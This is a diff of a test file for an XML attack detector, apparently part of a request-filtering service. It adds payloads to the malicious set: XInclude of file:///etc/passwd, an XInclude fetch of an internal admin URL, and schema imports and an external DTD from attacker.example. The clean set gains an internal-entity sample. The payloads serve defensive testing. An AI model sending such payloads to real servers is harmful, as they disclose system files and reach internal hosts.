@@ -96,6 +96,10 @@ describe('detection: verdicts and events', () => {
       ['external-schema', `<xs:schema ${xs}>${'<xs:include schemaLocation="part.xsd"/>'.repeat(40)}<xs:import namespace="urn:x" schemaLocation="https://attacker.example/x.xsd"/></xs:schema>`],
       ['xinclude', '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></doc>'],
       ['xinclude', '<doc><include xmlns="http://www.w3.org/2001/XInclude" href="http://10.0.0.12/admin" parse="text"/></doc>'],
+      // an internal entity declared first does not hide them, nor an external DTD
+      ['external-schema', `<!DOCTYPE s [<!ENTITY v "1.0">]><xs:schema ${xs} version="&v;"><xs:import namespace="urn:x" schemaLocation="http://attacker.example/x.xsd"/></xs:schema>`],
+      ['xinclude', '<!DOCTYPE d [<!ENTITY v "1.0">]><d xmlns:xi="http://www.w3.org/2001/XInclude">&v;<xi:include href="http://10.0.0.12/admin" parse="text"/></d>'],
+      ['external-dtd', '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd" [<!ENTITY v "1.0">]><d>&v;</d>'],
     ];
     const clean = [
       `<xs:schema ${xs}><xs:include schemaLocation="common-types.xsd"/><xs:import namespace="urn:a" schemaLocation="address/address.xsd"/></xs:schema>`,
@@ -103,6 +107,7 @@ describe('detection: verdicts and events', () => {
       '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion></project>',
       `<xs:schema ${xs}><xs:annotation><xs:documentation>An include with schemaLocation="http://example.com/a.xsd" is refused.</xs:documentation></xs:annotation></xs:schema>`,
       '<?xml version="1.0"?><recipe><step>Include the zest, then import the spices.</step></recipe>',
+      '<!DOCTYPE d [<!ENTITY v "1.0">]><d>&v;</d>', // an internal entity alone is below the threshold
     ];
     const xml = call('POST', '/x', 'orders.shop', [['content-type', 'application/xml']]);
     try {
